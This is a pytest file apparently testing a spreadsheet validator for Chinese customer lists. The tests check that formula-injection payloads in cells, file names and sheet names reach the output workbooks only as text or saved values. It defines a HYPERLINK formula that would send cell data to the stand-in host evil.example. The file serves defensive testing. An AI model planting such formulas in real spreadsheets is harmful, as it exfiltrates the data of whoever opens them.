    for j, p in enumerate(bucket):
        tag = p.text if p.text in tags else SAFE_TAG
        rows.append([f"客户{j}", f"1370013{j:04d}", tag, p.text, *[p.text] * len(bucket)])
    source = write_xlsx(tmp_path / "list.xlsx", rows)
    out = tmp_path / "out"
    fast = invoke(["validate", str(source), "--template", str(template), "--out", str(out),
                   "-q"], writer, 0)
    assert fast == (["upload.xlsx"] if writer == "fast" else [])
    found = [f for path in sorted(out.glob("*.xlsx"))
             for f in no_formula_findings(path, openpyxl.load_workbook(path))]
    ws = openpyxl.load_workbook(out / "upload.xlsx")[UPLOAD_SHEET]
    header = header_row(ws)
    check = Checker()
    by_phone = rows_by(ws, "手机号码")
    for j, p in enumerate(bucket):
        column = next((header.index(t) for t in as_kept(p.text) if t in header), None)
        if column is None:
            check.missing(f"upload.xlsx: the header {p.label} in {header!r}")
            continue
        check.cell(f"upload.xlsx {UPLOAD_SHEET}", f"header {p.label}", ws.cell(1, column + 1),
                   as_kept(p.text))
        row = by_phone.get(f"1370013{j:04d}")
        if row is None:
            check.missing(f"upload.xlsx: the row of {p.label}")
            continue
        where = f"upload.xlsx {UPLOAD_SHEET}"
        check.cell(where, p.label, row[column], cleaned(p.text))
        check.cell(where, "级别", row[header.index("级别")], as_kept(p.text))
        if p.text in tags:
            check.cell(where, "标签", row[header.index("标签")], as_kept(p.text))
    assert not found + check.failures, listing(found + check.failures)


# --- a list with real formulas: their saved results reach the outputs, never the formulas ------

HYPERLINK_FORMULA = '=HYPERLINK("http://evil.example/?x="&A{row},"Click")'


def formula_list(path: Path) -> Path:
    """A list whose cells hold real formulas, with the results Excel saved: a valid row (公司
    =1+1 saved as 2, 备注 a HYPERLINK saved as "Click") and a rejected row (a bad number)
    whose 备注 is the HYPERLINK too."""
    book = xlsxwriter.Workbook(str(path))
    ws = book.add_worksheet("客户")
    for j, header in enumerate(HEADER):
        ws.write_string(0, j, header)
    for r, phone in ((1, "13800138000"), (2, "12345")):
        ws.write_string(r, 0, f"客户{r}")
        ws.write_string(r, 1, phone)
        ws.write_string(r, 2, "VIP")
        ws.write_formula(r, 5, HYPERLINK_FORMULA.format(row=r + 1), None, "Click")
    ws.write_formula(1, 3, "=1+1", None, 2)
    book.close()
    return path


def _validate_formula_list(tmp_path: Path, writer: str) -> tuple[Path, Path]:
    source = formula_list(tmp_path / "formulas.xlsx")
    out = tmp_path / "out"
    fast = invoke(["validate", str(source), "--out", str(out), "--annotate", "-q"], writer, 1)
    assert fast == (["upload.xlsx"] if writer == "fast" else [])
    return source, out


@pytest.mark.parametrize("writer", ["fast", "xlsxwriter"])
def test_saved_formula_results_reach_upload_and_errors_as_text(
    writer: str, tmp_path: Path
) -> None:
    source, out = _validate_formula_list(tmp_path, writer)
    assert openpyxl.load_workbook(source)["客户"]["F2"].data_type == "f"  # really a formula
    found = [f for name in ("upload.xlsx", "errors.xlsx")
             for f in no_formula_findings(out / name, openpyxl.load_workbook(out / name))]
    assert not found, listing(found)
    check = Checker()
    upload = rows_by(openpyxl.load_workbook(out / "upload.xlsx")[UPLOAD_SHEET], "手机号码")
    headers = header_row(openpyxl.load_workbook(out / "upload.xlsx")[UPLOAD_SHEET])
    row = upload["13800138000"]
    check.cell(f"upload.xlsx {UPLOAD_SHEET}", "公司", row[headers.index("公司")], "2")
    check.cell(f"upload.xlsx {UPLOAD_SHEET}", "备注", row[headers.index("备注")], "Click")
    fixed = rows_by(openpyxl.load_workbook(out / "errors.xlsx")[FIX_SHEET], SOURCE_ROW_HEADER)
    check.cell(f"errors.xlsx {FIX_SHEET}", "备注", fixed[3][HEADER.index("备注")], "Click")
    assert not check.failures, listing(check.failures)


def test_annotated_copy_holds_saved_values_not_formulas(tmp_path: Path) -> None:
    """The copy of the user's workbook is the only output openpyxl writes from the user's own
    cells: a formula there would reach the admin who opens it, so the copy holds the values
    Excel saved (annotate.py loads the workbook with its formulas until it changes)."""
    _, out = _validate_formula_list(tmp_path, "xlsxwriter")
    path = out / "formulas.annotated.xlsx"
    book = openpyxl.load_workbook(path)
    found = no_formula_findings(path, book)
    ws = book["客户"]
    saved = {"D2": 2, "F2": "Click", "F3": "Click"}
    got = {ref: ws[ref].value for ref in saved}
    if any(str(got[ref]) != str(value) for ref, value in saved.items()):
        found.append(f"{path.name}: saved values {saved!r} expected, found {got!r}")
    assert not found, listing(found)


# --- payloads as the list's file name and sheet name ---------------------------------------------

_NOT_IN_SHEET_NAME = set("[]:*?/\\")


def _as_file_name(p: Payload) -> bool:
    return not (set(p.text) & {"/", "\t", "\r", "\n"}) and p.text == p.text.strip()


def _as_sheet_name(p: Payload) -> bool:
    return (_as_file_name(p) and not set(p.text) & _NOT_IN_SHEET_NAME and len(p.text) <= 31
            and not p.text.startswith("'") and not p.text.endswith("'"))


def test_payload_file_and_sheet_names_stay_text(tmp_path: Path) -> None:
    """The file's name (概要, report.json) and its sheet's (问题明细's 工作表 column; a CSV's
    sheet is its file's stem) are written too: lists named by payloads, checked in one run."""
    lists = tmp_path / "lists"
    lists.mkdir()
    sources: dict[Path, tuple[Payload, str]] = {}
    for n, p in enumerate(p for p in PAYLOADS if _as_file_name(p)):
        rows = [HEADER, [f"客户{n}", f"1360013{n:04d}", "VIP"], [f"客户{n}", "123", "VIP"]]
        # a workbook whose sheet is named by the payload too, else a CSV (its sheet: its stem)
        if _as_sheet_name(p):
            sources[write_xlsx(lists / f"{p.text}.xlsx", rows, sheet=p.text)] = (p, p.text)
        else:
            sources[write_csv(lists / f"{p.text}.csv", rows)] = (p, p.text)
    out = tmp_path / "out"
    invoke(["validate", *map(str, sources), "--out", str(out), "--annotate", "--batch-size",
            "1", "-q"], "xlsxwriter", 1)
    found: list[str] = []
    for source, (p, sheet) in sources.items():
        folder = out / source.stem
        written = sorted(folder.glob("*.xlsx"))
        expected = 3 if source.suffix == ".xlsx" else 2  # upload-001, errors, annotated copy
        if len(written) != expected:
            found.append(f"{source.name}: {[w.name for w in written]} written")
        for path in written:
            book = openpyxl.load_workbook(path)
            found += [f"{p.label} as the list's name: {f}" for f in no_formula_findings(path, book)]
        errors = openpyxl.load_workbook(folder / "errors.xlsx")
        check = Checker()
        for row in list(errors[ISSUES_SHEET].iter_rows())[1:]:
            if any(c.value == "output.not_annotated" for c in row):
                continue  # about the file (a CSV cannot be annotated), not one of its sheets
            check.cell(f"{source.name}: errors.xlsx {ISSUES_SHEET}", "工作表", row[0], sheet)
        names = [c for row in errors.worksheets[0].iter_rows() for c in row
                 if text_of(c) == source.name]
        if not names:
            check.missing(f"{source.name}: the file's name in errors.xlsx {errors.sheetnames[0]}")
        for cell in names:
            check.cell(f"{source.name}: errors.xlsx {errors.sheetnames[0]}", "输入文件", cell,
                       source.name)
        found += check.failures
    assert not found, listing(found)
